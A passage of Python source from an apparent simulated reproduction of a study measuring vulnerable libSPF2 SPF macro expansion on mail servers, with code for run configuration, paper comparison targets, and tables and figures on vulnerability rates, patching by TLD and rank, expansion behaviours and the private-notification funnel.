process executor's child worlds.  Checkpointable runs need that
description to be a *value*: something that can be serialized into a
store manifest, hashed so a resume can prove it is continuing the same
experiment, and shipped to a worker process to rebuild a world replica.

:class:`RunConfig` is that value.  It is frozen, picklable, and
JSON-round-trippable, and it splits cleanly in two:

- **semantic fields** (``population``, ``campaign``, ``seed``,
  ``retry``) determine every campaign artifact byte-for-byte; they are
  covered by :meth:`RunConfig.content_hash`;
- **runtime fields** (``executor``, ``workers``, ``trace``, ``world``,
  ``perf``) choose how the run executes and observes; results are
  byte-identical across them for the same semantic fields, so they are
  excluded from the hash — a campaign checkpointed under the serial
  executor may be resumed under the process executor and vice versa,
  and a profiled run hashes the same as an unprofiled one.
"""

from __future__ import annotations

import dataclasses
import datetime as _dt
import hashlib
import json
from dataclasses import dataclass
from typing import Optional

from .core.campaign import CampaignConfig
from .errors import SimulationError
from .exec.engine import RetryPolicy
from .internet.population import PopulationConfig


def _encode_fields(obj) -> Optional[dict]:
    """A JSON-ready dict of a config dataclass (datetimes/timedeltas tagged)."""
    if obj is None:
        return None
    out = {}
    for field in dataclasses.fields(obj):
        value = getattr(obj, field.name)
        if isinstance(value, _dt.datetime):
            value = {"$datetime": value.isoformat()}
        elif isinstance(value, _dt.timedelta):
            value = {"$seconds": value.total_seconds()}
        out[field.name] = value
    return out


def _decode_fields(cls, data: Optional[dict]):
    if data is None:
        return None
    kwargs = {}
    for key, value in data.items():
        if isinstance(value, dict) and "$datetime" in value:
            value = _dt.datetime.fromisoformat(value["$datetime"])
        elif isinstance(value, dict) and "$seconds" in value:
            value = _dt.timedelta(seconds=value["$seconds"])
        kwargs[key] = value
    return cls(**kwargs)


_EXECUTORS = (None, "serial", "sharded", "process")

_WORLD_MODES = ("lazy", "eager")


@dataclass(frozen=True)
class RunConfig:
    """A complete, serializable description of one campaign run."""

    #: population scale relative to the paper's domain counts; used only
    #: when ``population`` is not given explicitly.
    scale: float = 0.05
    #: the simulation seed (population, geography, patching, notification).
    seed: int = 20211011
    #: explicit population knobs; ``None`` derives them from scale/seed.
    population: Optional[PopulationConfig] = None
    #: explicit campaign timeline/probing knobs; ``None`` takes the paper's.
    campaign: Optional[CampaignConfig] = None
    #: probe retry policy; ``None`` is the paper's no-retry methodology.
    retry: Optional[RetryPolicy] = None
    # -- runtime fields (excluded from the content hash) ----------------------
    #: probe-execution strategy name; ``None`` derives from ``workers``.
    executor: Optional[str] = None
    #: worker count for the sharded/process strategies.
    workers: int = 1
    #: whether runs built from this config attach a virtual-time tracer.
    trace: bool = False
    #: world materialization strategy: ``"lazy"`` builds servers on first
    #: touch (memory O(touched)); ``"eager"`` pre-builds every server up
    #: front.  Both produce byte-identical artifacts, so this is a
    #: runtime field outside the content hash.
    world: str = "lazy"
    #: wall-clock telemetry sideband directory (``--perf``), or ``None``.
    #: The sideband writes to separate files only and never feeds back
    #: into artifacts, so — like ``trace`` — it is a runtime field; it is
    #: serialized because process-executor children read it off the
    #: config to write their own per-shard perf streams.
    perf: Optional[str] = None

    def __post_init__(self) -> None:
        if self.executor not in _EXECUTORS:
            raise SimulationError(
                f"unknown executor {self.executor!r} (serial | sharded | process)"
            )
        if self.world not in _WORLD_MODES:
            raise SimulationError(
                f"unknown world mode {self.world!r} (lazy | eager)"
            )

    # -- resolution -----------------------------------------------------------

    def resolved_population(self) -> PopulationConfig:
        """The effective population config (explicit, or from scale/seed)."""
        return self.population or PopulationConfig(scale=self.scale, seed=self.seed)

    def resolved_campaign(self) -> CampaignConfig:
        """The effective campaign config (explicit, or the paper's)."""
        return self.campaign or CampaignConfig()

    # -- identity -------------------------------------------------------------

    def semantic_dict(self) -> dict:
        """The hash-covered payload: everything that determines results."""
        return {
            "population": _encode_fields(self.resolved_population()),
            "campaign": _encode_fields(self.resolved_campaign()),
            "retry": _encode_fields(self.retry),
            "seed": self.seed,
        }

    def content_hash(self) -> str:
        """A stable hex digest of the semantic fields.

        Two configs hash identically exactly when their campaigns produce
        byte-identical artifacts: explicit configs equal to the derived
        defaults hash the same, and runtime fields (executor, workers,
        trace) never perturb the digest.
        """
        blob = json.dumps(
            self.semantic_dict(), sort_keys=True, separators=(",", ":")
        )
        return hashlib.sha256(blob.encode("utf-8")).hexdigest()

    # -- serialization --------------------------------------------------------

    def to_dict(self) -> dict:
        return {
            "scale": self.scale,
            "seed": self.seed,
            "population": _encode_fields(self.population),
            "campaign": _encode_fields(self.campaign),
            "retry": _encode_fields(self.retry),
            "executor": self.executor,
            "workers": self.workers,
            "trace": self.trace,
            "world": self.world,
            "perf": self.perf,
        }

    @classmethod
    def from_dict(cls, data: dict) -> "RunConfig":
        return cls(
            scale=data["scale"],
            seed=data["seed"],
            population=_decode_fields(PopulationConfig, data.get("population")),
            campaign=_decode_fields(CampaignConfig, data.get("campaign")),
            retry=_decode_fields(RetryPolicy, data.get("retry")),
            executor=data.get("executor"),
            workers=data.get("workers", 1),
            trace=data.get("trace", False),
            world=data.get("world", "lazy"),
            perf=data.get("perf"),
        )

    def to_json(self, *, indent: Optional[int] = 2) -> str:
        return json.dumps(self.to_dict(), sort_keys=True, indent=indent)

    @classmethod
    def from_json(cls, text: str) -> "RunConfig":
        return cls.from_dict(json.loads(text))
