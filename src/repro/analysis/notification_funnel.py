"""Section 7.7 — the private-notification funnel.

The paper's numbers: 6,488 notifications sent, 31.6% bounced, 12% of
delivered opened (tracking-pixel lower bound), 177 openers eventually
patched, but only 9 patched *between* private and public disclosure —
private disclosure at scale was minimally effective.  Of the domains
whose notification bounced, 37 still patched before public disclosure
(package-manager updates).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, Optional, Set

from ..clock import PUBLIC_DISCLOSURE
from ..core.campaign import DomainStatus
from ..simulation import Simulation
from .formatting import pct, render_table
from .status import final_domain_status


@dataclass
class NotificationFunnel:
    sent: int
    bounced: int
    delivered: int
    opened: int
    openers_patched_eventually: int
    openers_patched_before_disclosure: int
    bounced_patched_before_disclosure: int


def build_notification_funnel(sim: Simulation) -> Optional[NotificationFunnel]:
    sim.run()
    report = sim.notification_report
    if report is None:
        return None

    plans = {plan.unit_id: plan for plan in sim.patch_model.plans()}

    def patched_eventually(unit_id: int) -> bool:
        plan = plans.get(unit_id)
        return plan is not None and plan.patches

    def patched_before_disclosure(unit_id: int) -> bool:
        plan = plans.get(unit_id)
        return (
            plan is not None
            and plan.patch_date is not None
            and report.sent_at <= plan.patch_date < PUBLIC_DISCLOSURE
        )

    opened_units = report.opened_unit_ids()
    bounced_units = report.bounced_unit_ids()
    return NotificationFunnel(
        sent=report.sent,
        bounced=report.bounced,
        delivered=report.delivered,
        opened=report.opened,
        openers_patched_eventually=sum(
            1 for unit_id in opened_units if patched_eventually(unit_id)
        ),
        openers_patched_before_disclosure=sum(
            1 for unit_id in opened_units if patched_before_disclosure(unit_id)
        ),
        bounced_patched_before_disclosure=sum(
            1 for unit_id in bounced_units if patched_before_disclosure(unit_id)
        ),
    )


def render_notification_funnel(funnel: Optional[NotificationFunnel]) -> str:
    if funnel is None:
        return "Notification funnel: (no notification campaign was run)"
    headers = ["Stage", "Count", "Share"]
    body = [
        ["Notifications sent", f"{funnel.sent:,}", "100%"],
        ["Returned undelivered", f"{funnel.bounced:,}", pct(funnel.bounced, funnel.sent)],
        ["Delivered", f"{funnel.delivered:,}", pct(funnel.delivered, funnel.sent)],
        ["Opened (pixel lower bound)", f"{funnel.opened:,}", pct(funnel.opened, funnel.delivered)],
        [
            "Openers patched eventually",
            f"{funnel.openers_patched_eventually:,}",
            pct(funnel.openers_patched_eventually, funnel.opened),
        ],
        [
            "Openers patched before public disclosure",
            f"{funnel.openers_patched_before_disclosure:,}",
            pct(funnel.openers_patched_before_disclosure, funnel.opened),
        ],
        [
            "Bounced yet patched before disclosure",
            f"{funnel.bounced_patched_before_disclosure:,}",
            pct(funnel.bounced_patched_before_disclosure, funnel.bounced),
        ],
    ]
    return render_table(
        headers, body, title="Section 7.7: Private-notification funnel"
    )
