"""The paper's reported values, encoded as comparison targets.

Each target carries the value the paper reports, the tolerance band a
simulated reproduction is expected to land in (the substrate is a
simulator, so *shape* is the contract, not digits), and where in the
paper it comes from.  The report generator checks a run against every
target.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from ..simulation import Simulation


@dataclass(frozen=True)
class PaperTarget:
    """One checkable claim from the paper."""

    key: str
    description: str
    paper_value: float
    band: Tuple[float, float]  # acceptable simulated range
    source: str  # table/figure/section
    #: Extracts the measured value from a completed simulation.
    measure: Callable[[Simulation], Optional[float]]

    def evaluate(self, sim: Simulation) -> "TargetResult":
        measured = self.measure(sim)
        if measured is None:
            return TargetResult(self, None, False)
        low, high = self.band
        return TargetResult(self, measured, low <= measured <= high)


@dataclass(frozen=True)
class TargetResult:
    target: PaperTarget
    measured: Optional[float]
    within_band: bool


def _table4(sim: Simulation):
    from .table4 import build_table4

    result = sim.run()
    return build_table4(sim.population, result.initial)


def _vulnerable_ip_share(sim: Simulation) -> Optional[float]:
    combined = _table4(sim)[-1]
    if not combined.ips_measured:
        return None
    return combined.ips_vulnerable / combined.ips_measured


def _erroneous_ip_share(sim: Simulation) -> Optional[float]:
    combined = _table4(sim)[-1]
    if not combined.ips_measured:
        return None
    return (combined.ips_vulnerable + combined.ips_erroneous) / combined.ips_measured


def _vulnerable_domain_share(sim: Simulation) -> Optional[float]:
    alexa = _table4(sim)[0]
    if not alexa.domains_measured:
        return None
    return alexa.domains_vulnerable / alexa.domains_measured


def _measured_ip_share_alexa(sim: Simulation) -> Optional[float]:
    from .table3 import build_table3

    result = sim.run()
    alexa = build_table3(sim.population, result.initial)[0]
    return alexa.addresses.total_measured / alexa.addresses.total


def _measured_domain_share_alexa(sim: Simulation) -> Optional[float]:
    from .table3 import build_table3

    result = sim.run()
    alexa = build_table3(sim.population, result.initial)[0]
    return alexa.domains.total_measured / alexa.domains.total


def _refused_ip_share_alexa(sim: Simulation) -> Optional[float]:
    from .table3 import build_table3

    result = sim.run()
    alexa = build_table3(sim.population, result.initial)[0]
    return alexa.addresses.refused / alexa.addresses.total


def _still_vulnerable(sim: Simulation) -> Optional[float]:
    from .figure7 import build_figure7

    return build_figure7(sim).final_vulnerable_fraction()


def _patched_domain_share(sim: Simulation) -> Optional[float]:
    from .figure2 import build_figure2

    rows = build_figure2(sim)
    return rows[0].patched_fraction if rows[0].total else None


def _bounce_rate(sim: Simulation) -> Optional[float]:
    report = sim.notification_report
    if report is None or not report.sent:
        return None
    return report.bounced / report.sent


def _open_rate(sim: Simulation) -> Optional[float]:
    report = sim.notification_report
    if report is None or not report.delivered:
        return None
    return report.opened / report.delivered


def _multi_pattern_share(sim: Simulation) -> Optional[float]:
    from .table7 import build_table7

    table = build_table7(sim.run().initial)
    if not table.total_measured:
        return None
    return table.multiple_patterns / table.total_measured


PAPER_TARGETS: List[PaperTarget] = [
    PaperTarget(
        key="vulnerable-ip-share",
        description="vulnerable share of SPF-measured addresses (combined)",
        paper_value=0.173,
        band=(0.10, 0.28),
        source="Table 4 / §7.1 ('1 in every 6')",
        measure=_vulnerable_ip_share,
    ),
    PaperTarget(
        key="erroneous-ip-share",
        description="addresses mis-expanding macros in any way",
        paper_value=0.24,
        band=(0.12, 0.38),
        source="§7.1 ('close to a quarter')",
        measure=_erroneous_ip_share,
    ),
    PaperTarget(
        key="vulnerable-domain-share",
        description="vulnerable share of SPF-measured Alexa domains",
        paper_value=0.087,
        band=(0.03, 0.16),
        source="§8 (18,733 of 214,802)",
        measure=_vulnerable_domain_share,
    ),
    PaperTarget(
        key="refused-ip-share-alexa",
        description="Alexa addresses refusing TCP connections",
        paper_value=0.47,
        band=(0.37, 0.57),
        source="Table 3",
        measure=_refused_ip_share_alexa,
    ),
    PaperTarget(
        key="measured-ip-share-alexa",
        description="Alexa addresses conclusively SPF-measured",
        paper_value=0.23,
        band=(0.13, 0.33),
        source="Table 3",
        measure=_measured_ip_share_alexa,
    ),
    PaperTarget(
        key="measured-domain-share-alexa",
        description="Alexa domains conclusively SPF-measured",
        paper_value=0.48,
        band=(0.35, 0.60),
        source="Table 3",
        measure=_measured_domain_share_alexa,
    ),
    PaperTarget(
        key="still-vulnerable-at-end",
        description="inferable domains still vulnerable at study end",
        paper_value=0.80,
        band=(0.62, 0.95),
        source="Figure 7 / §7.6",
        measure=_still_vulnerable,
    ),
    PaperTarget(
        key="patched-domain-share",
        description="initially vulnerable domains patched by February",
        paper_value=0.15,
        band=(0.04, 0.30),
        source="Figure 2 / §7.2",
        measure=_patched_domain_share,
    ),
    PaperTarget(
        key="notification-bounce-rate",
        description="private notifications returned undelivered",
        paper_value=0.316,
        band=(0.18, 0.45),
        source="§7.7",
        measure=_bounce_rate,
    ),
    PaperTarget(
        key="notification-open-rate",
        description="delivered notifications opened (pixel lower bound)",
        paper_value=0.12,
        band=(0.03, 0.28),
        source="§7.7",
        measure=_open_rate,
    ),
    PaperTarget(
        key="multi-pattern-share",
        description="measured addresses showing 2+ expansion patterns",
        paper_value=0.06,
        band=(0.01, 0.14),
        source="§7.9",
        measure=_multi_pattern_share,
    ),
]


def evaluate_targets(sim: Simulation) -> List[TargetResult]:
    """Check every encoded paper claim against a completed run."""
    return [target.evaluate(sim) for target in PAPER_TARGETS]
