"""Table 4 — initial SPF results breakdown.

Among conclusively SPF-measured addresses (and their domains), how many
ran vulnerable libSPF2, how many mis-expanded macros in other ways, and
how many were RFC-compliant.  The paper's headline: ~1 in 6 measured
Alexa addresses vulnerable, ~1 in 10 for the 2-Week MX set, with roughly
a quarter / a sixth expanding macros incorrectly in some way.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence, Set, Tuple

from ..core.campaign import DomainStatus, InitialMeasurement
from ..core.detector import DetectionOutcome
from ..internet.population import DomainPopulation, DomainSet
from .formatting import count_pct, render_table

_GROUPS: Tuple[Tuple[str, DomainSet], ...] = (
    ("Alexa Top List", DomainSet.ALEXA_TOP_LIST),
    ("2-Week MX", DomainSet.TWO_WEEK_MX),
)


@dataclass
class Table4Row:
    group: str
    #: address-level counts
    ips_measured: int
    ips_vulnerable: int
    ips_erroneous: int  # erroneous but not vulnerable
    ips_compliant: int
    #: domain-level counts
    domains_measured: int
    domains_vulnerable: int


def _group_ips(
    population: DomainPopulation,
    initial: InitialMeasurement,
    domain_set: DomainSet,
) -> List[str]:
    ips: List[str] = []
    seen: Set[str] = set()
    for domain in population.in_set(domain_set):
        for ip in initial.domain_ips.get(domain.name, []):
            if ip not in seen:
                seen.add(ip)
                ips.append(ip)
    return ips


def build_table4(
    population: DomainPopulation, initial: InitialMeasurement
) -> List[Table4Row]:
    rows: List[Table4Row] = []
    groups = list(_GROUPS) + [("Combined", DomainSet.ALEXA_TOP_LIST | DomainSet.TWO_WEEK_MX)]
    for group_name, domain_set in groups:
        ips = _group_ips(population, initial, domain_set)
        measured = [
            ip for ip in ips if initial.ip_records[ip].outcome.spf_measured
        ]
        vulnerable = [
            ip
            for ip in measured
            if initial.ip_records[ip].outcome == DetectionOutcome.VULNERABLE
        ]
        erroneous = [
            ip
            for ip in measured
            if initial.ip_records[ip].outcome == DetectionOutcome.ERRONEOUS
        ]
        names = [d.name for d in population.in_set(domain_set)]
        domains_measured = sum(
            1
            for name in names
            if initial.domain_status.get(name)
            in (DomainStatus.VULNERABLE, DomainStatus.NOT_VULNERABLE)
        )
        domains_vulnerable = sum(
            1
            for name in names
            if initial.domain_status.get(name) == DomainStatus.VULNERABLE
        )
        rows.append(
            Table4Row(
                group=group_name,
                ips_measured=len(measured),
                ips_vulnerable=len(vulnerable),
                ips_erroneous=len(erroneous),
                ips_compliant=len(measured) - len(vulnerable) - len(erroneous),
                domains_measured=domains_measured,
                domains_vulnerable=domains_vulnerable,
            )
        )
    return rows


def render_table4(rows: List[Table4Row]) -> str:
    headers = [
        "Group",
        "IPs measured",
        "Vulnerable",
        "Erroneous*",
        "Compliant",
        "Domains measured",
        "Domains vulnerable",
    ]
    body = [
        [
            r.group,
            f"{r.ips_measured:,}",
            count_pct(r.ips_vulnerable, r.ips_measured),
            count_pct(r.ips_erroneous, r.ips_measured),
            count_pct(r.ips_compliant, r.ips_measured),
            f"{r.domains_measured:,}",
            count_pct(r.domains_vulnerable, r.domains_measured),
        ]
        for r in rows
    ]
    table = render_table(headers, body, title="Table 4: SPF initial results breakdown")
    return table + "\n*Erroneous macro expansion, but not vulnerable"
