"""Shared status helpers for the analysis builders.

Final (end-of-study) status combines the longitudinal inference with the
final snapshot, exactly as the paper does: the snapshot — which
re-resolved MX records — settles domains the longitudinal series lost.
"""

from __future__ import annotations

import datetime as _dt
from typing import Dict, List, Optional

from ..core.campaign import DomainStatus
from ..core.inference import InferenceEngine, InferredStatus
from ..simulation import Simulation


def final_domain_status(sim: Simulation) -> Dict[str, DomainStatus]:
    """name → final status for every initially vulnerable domain."""
    result = sim.run()
    engine = sim.inference()
    last_date = result.rounds[-1].date if result.rounds else result.initial.date

    status: Dict[str, DomainStatus] = {}
    for name in result.initial.vulnerable_domains():
        snapshot = result.snapshot_status.get(name)
        if snapshot in (DomainStatus.VULNERABLE, DomainStatus.PATCHED):
            status[name] = snapshot
            continue
        inferred, _ = engine.domain_status(name, last_date)
        if inferred == InferredStatus.VULNERABLE:
            status[name] = DomainStatus.VULNERABLE
        elif inferred == InferredStatus.PATCHED:
            status[name] = DomainStatus.PATCHED
        else:
            status[name] = DomainStatus.UNKNOWN
    return status


def final_ip_status(sim: Simulation) -> Dict[str, Optional[bool]]:
    """ip → True (patched) / False (still vulnerable) / None (unknown),
    over the initially vulnerable addresses."""
    result = sim.run()
    engine = sim.inference()
    last_date = result.rounds[-1].date if result.rounds else result.initial.date
    out: Dict[str, Optional[bool]] = {}
    for ip in result.initial.vulnerable_ips():
        inferred, _ = engine.ip_status(ip, last_date)
        if inferred == InferredStatus.PATCHED:
            out[ip] = True
        elif inferred == InferredStatus.VULNERABLE:
            out[ip] = False
        else:
            out[ip] = None
    return out
