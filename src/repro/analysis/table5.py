"""Table 5 — best/worst patch rates for TLDs with enough vulnerable domains.

The paper lists the top and bottom five TLDs by patch rate among TLDs
with at least 50 initially vulnerable domains.  The threshold scales with
the simulated population so the table stays populated at any scale.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..core.campaign import DomainStatus
from ..simulation import Simulation
from .formatting import pct, render_table
from .status import final_domain_status


@dataclass
class Table5Row:
    tld: str
    patched: int
    initially_vulnerable: int

    @property
    def patch_rate(self) -> float:
        return self.patched / self.initially_vulnerable if self.initially_vulnerable else 0.0


@dataclass
class Table5:
    best: List[Table5Row]
    worst: List[Table5Row]
    com_reference: Optional[Table5Row]
    threshold: int


def build_table5(
    sim: Simulation, *, min_vulnerable: Optional[int] = None, top: int = 5
) -> Table5:
    result = sim.run()
    status = final_domain_status(sim)

    by_tld: Dict[str, Table5Row] = {}
    for name in result.initial.vulnerable_domains():
        domain = sim.population.get(name)
        if domain is None:
            continue
        row = by_tld.setdefault(domain.tld, Table5Row(domain.tld, 0, 0))
        row.initially_vulnerable += 1
        if status.get(name) == DomainStatus.PATCHED:
            row.patched += 1

    if min_vulnerable is None:
        # Paper threshold 50 at full scale; keep proportional but useful.
        min_vulnerable = max(3, int(round(50 * sim.population.config.scale)))

    eligible = [r for r in by_tld.values() if r.initially_vulnerable >= min_vulnerable]
    ranked = sorted(eligible, key=lambda r: (-r.patch_rate, r.tld))
    return Table5(
        best=ranked[:top],
        worst=list(reversed(sorted(eligible, key=lambda r: (r.patch_rate, r.tld))[:top])),
        com_reference=by_tld.get("com"),
        threshold=min_vulnerable,
    )


def render_table5(table: Table5) -> str:
    headers = ["TLD", "# Patched", "# Initially Vulnerable", "% Patched"]

    def row(r: Table5Row) -> List[str]:
        return [
            f".{r.tld}",
            f"{r.patched:,}",
            f"{r.initially_vulnerable:,}",
            pct(r.patched, r.initially_vulnerable),
        ]

    body = [row(r) for r in table.best]
    body.append(["...", "", "", ""])
    body.extend(row(r) for r in table.worst)
    rendered = render_table(
        headers,
        body,
        title=(
            "Table 5: Best/worst patch rates for TLDs with "
            f">= {table.threshold} initially vulnerable domains"
        ),
    )
    if table.com_reference is not None:
        ref = table.com_reference
        rendered += (
            f"\nReference .com: {ref.patched:,}/{ref.initially_vulnerable:,} "
            f"({pct(ref.patched, ref.initially_vulnerable)}) patched"
        )
    return rendered
