"""Table 7 — behaviors in SPF macro expansion by IP address.

How every conclusively measured address expanded the ``%{d1r}`` macro:
RFC-compliant, the vulnerable libSPF2 pattern, no expansion at all,
reversed-but-not-truncated, truncated-but-not-reversed, or something else
— plus the addresses exhibiting two or more distinct patterns (multiple
SPF stacks in the mail path, §7.9).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List

from ..core.campaign import InitialMeasurement
from ..core.fingerprint import ExpansionBehavior
from .formatting import count_pct, render_table

_ORDER = (
    ExpansionBehavior.RFC_COMPLIANT,
    ExpansionBehavior.VULNERABLE_LIBSPF2,
    ExpansionBehavior.NO_EXPANSION,
    ExpansionBehavior.REVERSED_NOT_TRUNCATED,
    ExpansionBehavior.TRUNCATED_NOT_REVERSED,
    ExpansionBehavior.OTHER_ERRONEOUS,
)

_LABELS = {
    ExpansionBehavior.RFC_COMPLIANT: "RFC-compliant expansion",
    ExpansionBehavior.VULNERABLE_LIBSPF2: "Vulnerable libSPF2 expansion",
    ExpansionBehavior.NO_EXPANSION: "No macro expansion (literal)",
    ExpansionBehavior.REVERSED_NOT_TRUNCATED: "Reversed but not truncated",
    ExpansionBehavior.TRUNCATED_NOT_REVERSED: "Truncated but not reversed",
    ExpansionBehavior.OTHER_ERRONEOUS: "Other erroneous expansion",
}


@dataclass
class Table7:
    total_measured: int
    behavior_counts: Dict[ExpansionBehavior, int]
    multiple_patterns: int


def build_table7(initial: InitialMeasurement) -> Table7:
    counts: Dict[ExpansionBehavior, int] = {behavior: 0 for behavior in _ORDER}
    total = 0
    multiple = 0
    for record in initial.ip_records.values():
        if not record.outcome.spf_measured:
            continue
        total += 1
        for behavior in record.behaviors:
            counts[behavior] += 1
        if len(record.behaviors) > 1:
            multiple += 1
    return Table7(
        total_measured=total, behavior_counts=counts, multiple_patterns=multiple
    )


def render_table7(table: Table7) -> str:
    headers = ["Behavior", "IP addresses", "% of measured"]
    body = [
        [
            _LABELS[behavior],
            f"{table.behavior_counts[behavior]:,}",
            count_pct(table.behavior_counts[behavior], table.total_measured).split(" ")[-1].strip("()"),
        ]
        for behavior in _ORDER
    ]
    body.append(
        [
            "Multiple distinct patterns",
            f"{table.multiple_patterns:,}",
            count_pct(table.multiple_patterns, table.total_measured).split(" ")[-1].strip("()"),
        ]
    )
    rendered = render_table(
        headers, body, title="Table 7: Behaviors in SPF macro expansion by IP address"
    )
    return rendered + f"\nTotal conclusively measured: {table.total_measured:,}"
