"""Table 2 — most common TLDs for the Alexa Top List and 2-Week MX sets."""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Tuple

from ..internet.population import DomainPopulation, DomainSet
from .formatting import render_table


@dataclass
class Table2Row:
    alexa_tld: str
    alexa_count: int
    two_week_tld: str
    two_week_count: int


def build_table2(population: DomainPopulation, *, top: int = 15) -> List[Table2Row]:
    def ranked(domain_set: DomainSet) -> List[Tuple[str, int]]:
        counts = population.tld_counts(domain_set)
        return sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))[:top]

    alexa = ranked(DomainSet.ALEXA_TOP_LIST)
    two_week = ranked(DomainSet.TWO_WEEK_MX)
    rows: List[Table2Row] = []
    for i in range(max(len(alexa), len(two_week))):
        a_tld, a_count = alexa[i] if i < len(alexa) else ("", 0)
        t_tld, t_count = two_week[i] if i < len(two_week) else ("", 0)
        rows.append(
            Table2Row(
                alexa_tld=a_tld, alexa_count=a_count,
                two_week_tld=t_tld, two_week_count=t_count,
            )
        )
    return rows


def render_table2(rows: List[Table2Row]) -> str:
    headers = ["Alexa TLD", "Count", "2-Week TLD", "Count"]
    body = [
        [r.alexa_tld, f"{r.alexa_count:,}", r.two_week_tld, f"{r.two_week_count:,}"]
        for r in rows
    ]
    return render_table(headers, body, title="Table 2: Most common TLDs per set")
