"""Figure 6 — vulnerability rates per domain list, first window.

For each round of the first measurement window, the share of
status-determinable domains still vulnerable, per domain set.  Expected
shape: the 2-Week MX set sheds ~10% and the Alexa Top List ~4% across
the window, with most of that movement *before* the private notification
(proactive patching).
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..clock import MEASUREMENTS_PAUSED, PRIVATE_NOTIFICATION
from ..core.inference import InferenceEngine, RoundSummary
from ..internet.population import DomainSet
from ..simulation import Simulation
from .formatting import render_table

_SETS: Tuple[Tuple[str, DomainSet], ...] = (
    ("Alexa Top List", DomainSet.ALEXA_TOP_LIST),
    ("Alexa 1000", DomainSet.ALEXA_1000),
    ("2-Week MX", DomainSet.TWO_WEEK_MX),
)


@dataclass
class VulnerabilitySeries:
    group: str
    points: List[RoundSummary]

    def rate_at(self, index: int) -> float:
        return self.points[index].vulnerable_fraction


@dataclass
class Figure6:
    series: List[VulnerabilitySeries]
    notification_date: _dt.datetime


def _series_for(
    sim: Simulation,
    engine: InferenceEngine,
    cutoff: Optional[_dt.datetime],
) -> List[VulnerabilitySeries]:
    result = sim.run()
    vulnerable = result.initial.vulnerable_domains()
    out: List[VulnerabilitySeries] = []
    for group_name, domain_set in _SETS:
        names = [
            name
            for name in vulnerable
            if sim.population.get(name) is not None
            and sim.population.get(name).in_set(domain_set)
        ]
        summaries = engine.round_summaries_domains(names)
        if cutoff is not None:
            summaries = [s for s in summaries if s.date <= cutoff]
        out.append(VulnerabilitySeries(group=group_name, points=summaries))
    return out


def build_figure6(sim: Simulation) -> Figure6:
    engine = sim.inference()
    return Figure6(
        series=_series_for(sim, engine, MEASUREMENTS_PAUSED),
        notification_date=PRIVATE_NOTIFICATION,
    )


def render_vulnerability_series(series: List[VulnerabilitySeries], title: str) -> str:
    from .formatting import sparkline

    if not series or not series[0].points:
        return f"{title}\n(no rounds)"
    headers = ["Date"] + [s.group for s in series]
    body = []
    for i, point in enumerate(series[0].points):
        row = [point.date.date().isoformat()]
        for s in series:
            summary = s.points[i]
            determinable = summary.vulnerable + summary.patched
            row.append(
                f"{100.0 * summary.vulnerable / determinable:.1f}%"
                if determinable
                else "-"
            )
        body.append(row)
    rendered = render_table(headers, body, title=title)
    sparks = []
    for s in series:
        rates = [
            p.vulnerable / (p.vulnerable + p.patched)
            for p in s.points
            if (p.vulnerable + p.patched)
        ]
        sparks.append(f"  {s.group:<16} [{sparkline(rates, low=0.0, high=1.0)}]")
    return rendered + "\n" + "\n".join(["Vulnerable-share sparklines (0-100%):"] + sparks)


def render_figure6(figure: Figure6) -> str:
    rendered = render_vulnerability_series(
        figure.series,
        "Figure 6: Vulnerability rate per domain list (first window)",
    )
    return rendered + (
        f"\nPrivate notification sent: {figure.notification_date.date().isoformat()}"
    )
