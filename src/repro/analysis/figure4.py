"""Figure 4 — vulnerable and patched servers by site ranking.

The full rank range of each set is partitioned into 20 buckets; each
bucket counts its initially vulnerable domains and how many eventually
patched.  Expected shape: higher-ranked (more popular) domains are
somewhat less likely to be vulnerable — the bottom fifth of the Alexa
list carries roughly twice the vulnerable count of the top fifth — and
patch slightly more, with no bucket above a 40% patch rate.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, List, Optional, Tuple

from ..core.campaign import DomainStatus
from ..internet.population import Domain, DomainSet
from ..simulation import Simulation
from .formatting import pct, render_table
from .status import final_domain_status

BUCKETS = 20


@dataclass
class RankBucket:
    index: int
    rank_low: int
    rank_high: int
    domains: int = 0
    vulnerable: int = 0
    patched: int = 0


@dataclass
class Figure4:
    alexa: List[RankBucket]
    two_week: List[RankBucket]


def _bucketize(
    domains: List[Tuple[Domain, int]],
    vulnerable_names: set,
    patched_names: set,
) -> List[RankBucket]:
    """Partition (domain, rank) pairs into 20 equal rank buckets."""
    if not domains:
        return []
    ranks = [rank for _, rank in domains]
    low, high = min(ranks), max(ranks)
    span = max(1, (high - low + 1))
    buckets = [
        RankBucket(
            index=i,
            rank_low=low + (span * i) // BUCKETS,
            rank_high=low + (span * (i + 1)) // BUCKETS - 1,
        )
        for i in range(BUCKETS)
    ]
    for domain, rank in domains:
        index = min(BUCKETS - 1, ((rank - low) * BUCKETS) // span)
        bucket = buckets[index]
        bucket.domains += 1
        if domain.name in vulnerable_names:
            bucket.vulnerable += 1
            if domain.name in patched_names:
                bucket.patched += 1
    return buckets


def build_figure4(sim: Simulation) -> Figure4:
    result = sim.run()
    status = final_domain_status(sim)
    vulnerable = set(result.initial.vulnerable_domains())
    patched = {n for n, s in status.items() if s == DomainStatus.PATCHED}

    alexa = [
        (d, d.alexa_rank)
        for d in sim.population.in_set(DomainSet.ALEXA_TOP_LIST)
        if d.alexa_rank is not None
    ]
    # The 2-Week MX ranking is by observed MX query count (descending).
    two_week_sorted = sorted(
        (d for d in sim.population.in_set(DomainSet.TWO_WEEK_MX)),
        key=lambda d: -(d.mx_query_count or 0),
    )
    two_week = [(d, i + 1) for i, d in enumerate(two_week_sorted)]

    return Figure4(
        alexa=_bucketize(alexa, vulnerable, patched),
        two_week=_bucketize(two_week, vulnerable, patched),
    )


def render_figure4(figure: Figure4) -> str:
    blocks = []
    for label, buckets in (("(a) Alexa Top List", figure.alexa),
                           ("(b) 2-Week MX", figure.two_week)):
        headers = ["Bucket", "Rank range", "Vulnerable", "Patched", "Patch rate"]
        body = [
            [
                str(b.index + 1),
                f"{b.rank_low:,}-{b.rank_high:,}",
                f"{b.vulnerable:,}",
                f"{b.patched:,}",
                pct(b.patched, b.vulnerable),
            ]
